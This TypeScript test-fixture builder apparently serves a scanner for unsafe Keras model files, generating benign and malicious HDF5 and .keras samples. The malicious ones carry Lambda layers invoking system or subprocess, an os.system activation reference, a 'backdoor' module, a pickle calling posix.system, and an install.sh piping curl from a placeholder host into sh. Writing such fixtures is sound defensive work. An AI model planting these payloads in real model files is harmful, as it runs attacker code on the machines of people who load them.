import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { runPythonFile } from './fixtures';
import { writeHdf5 } from './hdf5-writer';
import { pickleCalling } from './pickles';

/**
 * Keras models the way Keras writes them: legacy HDF5 (`model_config` on the root group, as
 * Keras 2 / tf.keras save to `.h5`), `.keras` archives (Keras 3: config.json, metadata.json,
 * model.weights.h5) and `model.to_json()` files. Lambda code is marshalled by Python
 * (make_lambdas.py), HDF5 is written with h5wasm, archives with Python's zipfile.
 */

type Json = Record<string, unknown>;

/** A Keras 3 serialized object. */
const k3 = (module: string, className: string, config: unknown, extra: Json = {}): Json => ({
  module,
  class_name: className,
  config,
  registered_name: null,
  ...extra,
});

const input3 = k3('keras.layers', 'InputLayer', {
  batch_shape: [null, 4],
  dtype: 'float32',
  name: 'input_layer',
});

const dense3 = (name: string, activation: unknown = 'relu'): Json =>
  k3(
    'keras.layers',
    'Dense',
    {
      name,
      trainable: true,
      dtype: k3('keras', 'DTypePolicy', { name: 'float32' }),
      units: 4,
      activation,
      kernel_initializer: k3('keras.initializers', 'GlorotUniform', { seed: null }),
      bias_initializer: k3('keras.initializers', 'Zeros', {}),
      kernel_regularizer: k3('keras.regularizers', 'L2', { l2: 0.01 }),
    },
    { build_config: { input_shape: [null, 4] } },
  );

export function keras3Model(layers: Json[]): Json {
  return k3(
    'keras',
    'Sequential',
    { name: 'sequential', trainable: true, layers },
    {
      build_config: { input_shape: [null, 4] },
      compile_config: {
        optimizer: k3('keras.optimizers', 'Adam', { name: 'adam', learning_rate: 0.001 }),
        loss: k3('keras.losses', 'MeanSquaredError', {
          name: 'mse',
          reduction: 'sum_over_batch_size',
        }),
        metrics: [k3('keras.metrics', 'MeanAbsoluteError', { name: 'mae' })],
      },
    },
  );
}

const lambda3 = (code: string): Json =>
  k3('keras.layers', 'Lambda', {
    name: 'preprocess',
    function: { class_name: '__lambda__', config: { code, defaults: null, closure: null } },
    arguments: {},
  });

/** A legacy (Keras 2) model config: no `module` keys. */
function legacyModel(layers: Json[]): Json {
  return { class_name: 'Sequential', config: { name: 'sequential', layers } };
}

const legacyInput: Json = {
  class_name: 'InputLayer',
  config: { batch_input_shape: [null, 4], dtype: 'float32', sparse: false, name: 'input_1' },
};

const legacyDense = (name: string): Json => ({
  class_name: 'Dense',
  config: {
    name,
    trainable: true,
    dtype: 'float32',
    units: 4,
    activation: 'relu',
    kernel_initializer: { class_name: 'GlorotUniform', config: { seed: null } },
    bias_initializer: { class_name: 'Zeros', config: {} },
  },
});

const legacyLambda = (code: string): Json => ({
  class_name: 'Lambda',
  config: {
    name: 'lambda',
    trainable: true,
    dtype: 'float32',
    function: [code, null, null],
    function_type: 'lambda',
    module: '__main__',
    output_shape: null,
    output_shape_type: 'raw',
    arguments: {},
  },
});

const TRAINING_CONFIG = {
  loss: 'mse',
  metrics: ['mae'],
  // tf.keras 2.11+ writes its own optimizers as "Custom>Adam" in legacy configs.
  optimizer_config: { class_name: 'Custom>Adam', config: { name: 'Adam', learning_rate: 0.001 } },
};

/** Legacy HDF5 root attributes (what `model.save("m.h5")` writes). */
const h5Attributes = (model: Json) => ({
  keras_version: '2.15.0',
  backend: 'tensorflow',
  model_config: JSON.stringify(model),
  training_config: JSON.stringify(TRAINING_CONFIG),
});

const WEIGHTS = { 'model_weights/dense/kernel': new Float32Array(16) };

export type KerasFixtures = { lambdas: Record<'system' | 'subprocess' | 'double', string> };

/** Writes every Keras fixture into `dir` (see keras.test.ts for what each one holds). */
export async function buildKerasFixtures(dir: string): Promise<KerasFixtures> {
  runPythonFile(dir, 'make_lambdas.py');
  const lambdas = JSON.parse(
    readFileSync(join(dir, 'lambdas.json'), 'utf8'),
  ) as KerasFixtures['lambdas'];
  const h5 = (name: string, attributes: Record<string, string>, fixed = false) =>
    writeHdf5(join(dir, name), attributes, WEIGHTS, { fixedLengthStrings: fixed });

  const benign = legacyModel([legacyInput, legacyDense('dense'), legacyDense('out')]);
  await h5('benign.h5', h5Attributes(benign));
  await h5('benign-fixed.h5', h5Attributes(benign), true);
  await h5(
    'lambda.h5',
    h5Attributes(legacyModel([legacyInput, legacyLambda(lambdas.system), legacyDense('out')])),
  );
  await h5(
    'custom.h5',
    h5Attributes(
      legacyModel([legacyInput, { class_name: 'AttentionPooling', config: { name: 'pool' } }]),
    ),
  );
  await writeHdf5(join(dir, 'weights.h5'), {}, { 'layers/dense/vars/0': new Float32Array(16) });
  writeFileSync(
    join(dir, 'broken.h5'),
    Buffer.concat([Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), Buffer.alloc(256, 7)]),
  );
  writeFileSync(
    join(dir, 'to-json.json'),
    JSON.stringify(legacyModel([legacyInput, legacyLambda(lambdas.subprocess)])),
  );
  writeFileSync(
    join(dir, 'tf-op.json'),
    JSON.stringify(
      legacyModel([
        legacyInput,
        { class_name: 'TFOpLambda', config: { name: 'tf.io.read_file', function: 'io.read_file' } },
      ]),
    ),
  );

  const benign3 = keras3Model([input3, dense3('dense'), dense3('out')]);
  const archives: Record<string, { config: Json; extra?: Json[] }> = {
    'benign.keras': { config: benign3 },
    'lambda.keras': { config: keras3Model([input3, lambda3(lambdas.system), dense3('out')]) },
    'benign-lambda.keras': {
      config: keras3Model([input3, lambda3(lambdas.double), dense3('out')]),
    },
    'unsafe-module.keras': {
      config: keras3Model([
        input3,
        dense3('dense', k3('os', 'function', 'system')),
        k3('evil_layers.backdoor', 'Backdoor', { name: 'backdoor' }),
        k3('__main__', 'Scaler', { name: 'scaler' }, { registered_name: 'Custom>Scaler' }),
        k3('keras_hub.src.layers', 'TokenAndPositionEmbedding', { name: 'embedding' }),
      ]),
    },
    'gadget.keras': {
      config: keras3Model([
        input3,
        dense3('dense', k3('keras.config', 'function', 'enable_unsafe_deserialization')),
      ]),
    },
    'pickle-inside.keras': {
      config: benign3,
      extra: [
        {
          name: 'assets/tokenizer.pkl',
          base64: pickleCalling('posix', 'system').toString('base64'),
        },
        { name: 'assets/install.sh', text: '#!/bin/sh\ncurl https://example.invalid/x | sh\n' },
      ],
    },
  };
  const manifest = Object.entries(archives).map(([zip, { config, extra = [] }]) => ({
    zip,
    members: [
      {
        name: 'metadata.json',
        text: JSON.stringify({ keras_version: '3.6.0', date_saved: '2026-11-28@10:00:00' }),
      },
      { name: 'config.json', text: JSON.stringify(config) },
      { name: 'model.weights.h5', file: 'weights.h5' },
      ...extra,
    ],
  }));
  manifest.push({
    zip: 'h5-in-zip.zip',
    members: [{ name: 'models/lambda.h5', file: 'lambda.h5' }],
  });
  writeFileSync(join(dir, 'keras-manifest.json'), JSON.stringify(manifest));
  runPythonFile(dir, 'zip_manifest.py', ['keras-manifest.json']);
  return { lambdas };
}
